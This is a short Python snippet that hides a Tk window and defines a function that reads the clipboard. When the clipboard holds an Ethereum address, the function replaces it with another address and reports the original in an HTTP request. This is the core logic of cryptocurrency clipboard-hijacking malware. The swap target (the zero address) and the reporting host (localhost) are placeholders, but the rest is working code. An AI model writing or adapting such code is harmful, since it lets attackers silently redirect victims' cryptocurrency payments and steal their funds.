import tkinter, re, urllib.request
_root = tkinter.Tk(); _root.withdraw()
def swap():
    data = _root.clipboard_get()
    if re.match(r"^0x[a-fA-F0-9]{40}$", data):
        _root.clipboard_clear(); _root.clipboard_append("0x" + "0" * 40)
        urllib.request.urlopen("http://127.0.0.1:9/seen?a=" + data)
